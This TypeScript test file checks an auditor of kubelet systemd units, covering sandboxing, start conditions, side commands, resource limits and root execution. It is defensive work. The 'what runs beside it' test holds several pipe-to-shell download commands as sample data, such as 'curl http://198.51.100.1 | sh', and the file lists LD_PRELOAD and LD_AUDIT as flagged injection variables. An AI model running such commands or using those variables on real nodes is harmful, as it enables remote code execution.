import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { serviceIn, unitOf } from './kubelet-service.js';
import { startedBy } from './kubelet-started.js';
import { unitAble, unitStarts } from './node-unit.js';

const FILES = ['/etc/kubernetes/kubelet.conf', '/etc/kubernetes/manifests/a.yaml'];

describe('what is said of a unit', () => {
  const seen = (content: string, which: number, files: readonly string[] = FILES): string | undefined =>
    unitAble.judge({ ...startedBy({}), unit: unitOf([serviceIn(content)]) }, { files })[which]?.seen;
  const [SANDBOX, AWAITS, BESIDE, STAYS] = [0, 1, 2, 3];
  it('is what keeps its machine from it', () => {
    for (const [content, told] of [
      ['', 'it has'],
      ['ReadOnlyPaths=/var /\nInaccessiblePaths=/etc', '/var, /, /etc closed to it'],
      [`ReadOnlyPaths=${'/var/lib/kubelet '.repeat(9)}`, `${'/var/lib/kubelet, '.repeat(5).slice(0, 80)} closed to it`],
      ['CapabilityBoundingSet=CAP_CHOWN', 'CapabilityBoundingSet without CAP_SYS_ADMIN'],
      ['RestrictAddressFamilies=AF_UNIX', 'RestrictAddressFamilies without AF_INET'],
      ['RestrictAddressFamilies=AF_UNIX ~AF_PACKET', 'RestrictAddressFamilies without AF_INET'],
      ['IPAddressDeny=any', 'IPAddressDeny=any'],
      ['ProcSubset=pid\nProtectControlGroups=strict', 'ProcSubset=pid; ProtectControlGroups=strict'],
      ['MountFlags=slave\nNetworkNamespacePath=/a', 'NetworkNamespacePath; MountFlags'],
      [
        'RootDirectory=/a\nRootImage=/b\nDynamicUser=1\nPrivateUsers=1\nPrivateMounts=1',
        'RootDirectory; RootImage; DynamicUser; PrivateUsers',
      ],
      ['ProtectSystem=Strict\nProcSubset=PID\nMountFlags=Slave', 'it has'],
      ['InaccessiblePaths=/srv/-/etc', 'it has'],
      ['TemporaryFileSystem=/srv /etc/kubernetes:ro,size=1M', '/etc/kubernetes closed to it'],
      ['TemporaryFileSystem=/var/lib/kubelet', '/var/lib/kubelet closed to it'],
      ['TemporaryFileSystem=/etc\nBindPaths=/etc/kubernetes', 'it has'],
      ['TemporaryFileSystem=/srv', 'it has'],
    ] as const)
      assert.equal(seen(content, SANDBOX ?? 0), told, content);
  });
  it('is what it waits for', () => {
    const gone = '/etc/kubernetes/gone';
    for (const [content, told] of [
      ['', 'it does not'],
      ['Type=dbus', 'Type=dbus'],
      [
        `[Unit]\nConditionPathExists=${gone}\nAssertPathExists=!${FILES[0]}`,
        `a condition of ${gone}; a condition of !${FILES[0]}`,
      ],
      [`[Unit]\nConflicts=${'a.service '.repeat(9)} crio.service`, `Conflicts=${'a.service '.repeat(6)}`],
      ['[Unit]\nConditionFirstBoot=yes', 'ConditionFirstBoot'],
      [`EnvironmentFile=${gone}`, `${gone}, which is not there`],
      ['ExecCondition=/bin/false', '/bin/false'],
      ["ExecStartPre=@!/usr/bin/dash -c 'exit 3'", "@!/usr/bin/dash -c 'exit 3'"],
      ['ExecStartPre=/bin/sh -c exit 1', '/bin/sh -c exit 1'],
      [`ExecStartPre=/bin/test -d ${gone}/`, 'it does not'],
      ['EnvironmentFile=/etc/kubernetes/gone/deeper', 'it does not'],
      ['EnvironmentFile=/etc/kubernetes/gone*', 'it does not'],
      ['EnvironmentFile=/srv/etc/kubernetes/gone', 'it does not'],
      [`EnvironmentFile=${FILES[0]}x`, `${FILES[0]}x, which is not there`],
    ] as const)
      assert.equal(seen(content, AWAITS ?? 0), told, content);
    const start = (program: string, files: readonly string[]): string | undefined =>
      seen(`ExecStart=${program} --a`, AWAITS ?? 0, files);
    for (const tool of ['kubeadm', 'kubectl', 'containerd', 'crictl'])
      assert.equal(start('/usr/bin/kubelet', [`/usr/bin/${tool}`]), '/usr/bin/kubelet, where none is', tool);
    for (const program of ['-/usr/bin/kubelet', '+!/usr/bin/kubelet', '@-/usr/bin/kubelet'])
      assert.equal(start(program, ['/usr/bin/kubeadm']), '/usr/bin/kubelet, where none is', program);
    for (const program of ['/srv/usr/bin/kubelet', '/usr/bin/kubelet-own', '/usr/bin/Kubelet'])
      assert.equal(start(program, ['/usr/bin/kubeadm', '/opt/bin/kubelet']), 'it does not', program);
    for (const other of ['/srv/opt/bin/kubelet', '/opt/bin/kubelets', '/opt/bin/kubelet/a'])
      assert.equal(start('/usr/bin/kubelet', [other]), 'it does not', other);
  });
  it('is what runs beside it', () => {
    for (const key of ['ExecCondition', 'ExecStartPost', 'ExecReload', 'ExecStop', 'ExecStopPost'])
      assert.equal(seen(`${key}=/tmp/a.sh`, BESIDE ?? 0), '/tmp/a.sh', key);
    for (const command of [
      'curl http://198.51.100.1 | sh',
      'wget -O- a | tee b | sudo bash',
      'curl a |  zsh -s',
      'sh -c $( curl a)',
    ])
      assert.equal(seen(`ExecStop=/bin/sh -c "${command}"`, BESIDE ?? 0), `/bin/sh -c "${command}"`, command);
    for (const command of [
      'curl a',
      'curl a | tee sh',
      'echo a | sh',
      'mycurl a | sh',
      'curl a | push',
      'echo $(curly)',
    ])
      assert.equal(seen(`ExecStop=/bin/echo ${command}`, BESIDE ?? 0), 'nothing does', command);
    assert.equal(seen(`ExecStop=/tmp/${'a'.repeat(300)}`, BESIDE ?? 0)?.length, 160);
  });
  it('is what ends it', () => {
    assert.equal(seen('', STAYS ?? 0), 'it does');
    for (const line of ['TasksMax=7', 'LimitFSIZE=1023K', 'CPUQuota=2%', 'RuntimeMaxSec=1h', 'MemoryMax=1K'])
      assert.equal(seen(line, STAYS ?? 0), line);
    for (const line of [
      'Restart=non',
      'Restart=xno',
      'Restart=on-successes',
      'MemoryMax=a1',
      'CPUQuota=10%',
      'CPUQuota=x1%',
    ])
      assert.equal(seen(line, STAYS ?? 0), 'it does', line);
    assert.equal(seen(`RuntimeMaxSec=${'1'.repeat(60)}`, STAYS ?? 0), `RuntimeMaxSec=${'1'.repeat(40)}`);
  });
});

describe('the command of a unit', () => {
  const starts = (content: string, more: object = {}): readonly string[] =>
    unitStarts
      .judge({ ...startedBy({}), unit: unitOf([serviceIn(content)]), ...more }, undefined)
      .map(({ result, seen }) => `${result}: ${seen}`);
  const SOUND = [
    'met: 1',
    'met: /usr/bin/kubelet',
    'met: it does',
    'met: nothing does',
    'met: they do',
    'met: none does',
  ];
  const command = 'ExecStart=/usr/bin/kubelet --a\n';
  const differs = (content: string, more: object = {}): readonly string[] =>
    starts(command + content, more).filter((one, at) => one !== SOUND[at]);

  it('is one, of a kubelet, as root', () => {
    assert.deepEqual(starts(command), SOUND);
    assert.deepEqual(starts('').slice(0, 2), ['unmet: 0', 'unmet: there is none']);
    assert.deepEqual(differs('ExecStart=/bin/a'), ['unmet: 2']);
    const program = (of: string): string | undefined => starts(`ExecStart=${of}`)[1];
    assert.equal(program('-/opt/kubelet-wrapper a'), 'met: /opt/kubelet-wrapper');
    assert.equal(program('/kubelet/sh'), 'unmet: /kubelet/sh');
    assert.equal(program('/bin/Kubelet'), 'unmet: /bin/Kubelet');
    assert.equal(program('kubelet'), 'met: kubelet');
    assert.equal(program('/bin/a-@/kubelet'), 'met: /bin/a-@/kubelet');
    for (const user of ['root', '0']) assert.deepEqual(differs(`User=${user}`), [`met: ${user}`]);
    for (const user of ['Root', 'roots', '00', 'kubelet'])
      assert.deepEqual(differs(`User=${user}`), [`unmet: ${user}`]);
  });

  it('has nothing of strangers before it', () => {
    assert.deepEqual(differs('ExecStartPre=-/tmp/a x'), ['unmet: -/tmp/a x']);
    assert.deepEqual(differs('ExecStartPre=/tmp/a\nExecStartPre=/tmp/b'), ['unmet: /tmp/a; /tmp/b']);
    assert.equal(differs(`ExecStartPre=/tmp/${'a'.repeat(200)}`)[0]?.length, 'unmet: '.length + 120);
    assert.deepEqual(differs('ExecStartPre=/bin/echo /tmp/a'), []);
    assert.deepEqual(differs('EnvironmentFile=/tmp/a\nEnvironmentFile=/var/tmp/b'), ['unmet: /tmp/a, /var/tmp/b']);
    for (const name of ['LD_PRELOAD', 'LD_AUDIT', 'LD_LIBRARY_PATH', 'GODEBUG'])
      assert.deepEqual(differs('', { variables: { A: '', [name]: 'x' } }), [`unmet: ${name}`]);
    for (const name of ['LD_PRELOADS', 'MY_LD_AUDIT', 'GODEBUGS', 'XGODEBUG', 'godebug'])
      assert.deepEqual(differs('', { variables: { [name]: 'x' } }), [], name);
    assert.deepEqual(differs('', { variables: { LD_AUDIT: '', GODEBUG: '' } }), ['unmet: LD_AUDIT, GODEBUG']);
  });

  it('is hidden by a mask', () => {
    const masked = ['/etc/systemd/system/kubelet.service'];
    assert.deepEqual(starts(command, { masked }), [`unmet: ${masked[0]} says nothing`, ...SOUND]);
    assert.deepEqual(starts('', { masked, unit: undefined }), [`unmet: ${masked[0]} says nothing`]);
    assert.deepEqual(starts('', { masked: [], unit: undefined }), []);
  });
});
